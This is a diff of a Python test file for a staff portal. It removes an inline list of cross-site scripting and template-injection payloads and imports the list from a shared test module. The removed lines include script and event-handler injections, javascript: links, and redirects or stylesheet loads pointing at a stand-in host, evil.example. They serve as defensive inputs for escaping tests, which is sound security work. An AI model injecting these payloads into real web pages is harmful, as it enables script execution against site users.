@@ -14,40 +14,9 @@ from audit.staff import paging
 from portal.staff.tests.conftest import Rows, give_reason, list_of, page_of
 from tenants.belongings import SECRET_FIELDS
 from tenants.models import ApiKey
+from tests.support.hostile import PAYLOADS
 
 LIMIT_QUERIES = 12
-PAYLOADS = (
-    "<script>fired(1)</script>",
-    '"><script>fired(1)</script>',
-    "'><img src=x onerror=fired(1)>",
-    "<svg onload=fired(1)>",
-    "<svg/onload=fired(1)//",
-    "</title><script>fired(1)</script>",
-    "</textarea><script>fired(1)</script>",
-    "</script><script>fired(1)</script>",
-    "<iframe srcdoc='<script>fired(1)</script>'>",
-    "<body onload=fired(1)>",
-    "<input autofocus onfocus=fired(1)>",
-    "<details open ontoggle=fired(1)>",
-    "<video><source onerror=fired(1)>",
-    "<math href='javascript:fired(1)'>",
-    "<a href='javascript:fired(1)'>x</a>",
-    "javascript:fired(1)",
-    "<base href='https://evil.example/'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<link rel=stylesheet href=https://evil.example/a.css>",
-    "<style>@import 'https://evil.example/a.css'</style>",
-    "<object data='data:text/html,<script>fired(1)</script>'>",
-    "<form action=https://evil.example><button>go",
-    '" x-data x-init="fired(1)" y="',
-    '" onmouseover="fired(1)" y="',
-    "' hx-get='https://evil.example/' hx-trigger='load' y='",
-    "{{ 7|add:7 }}{% now 'Y' %}",
-    "${fired(1)}",
-    "<!--<img src='--><img src=x onerror=fired(1)>'>",
-    "<noscript><p title='</noscript><img src=x onerror=fired(1)>'>",
-    "\u202e<b>fired(1)</b>\u2028<xss/>",
-)
 
 
 def lists_of_one(rows: Rows) -> list[Any]:
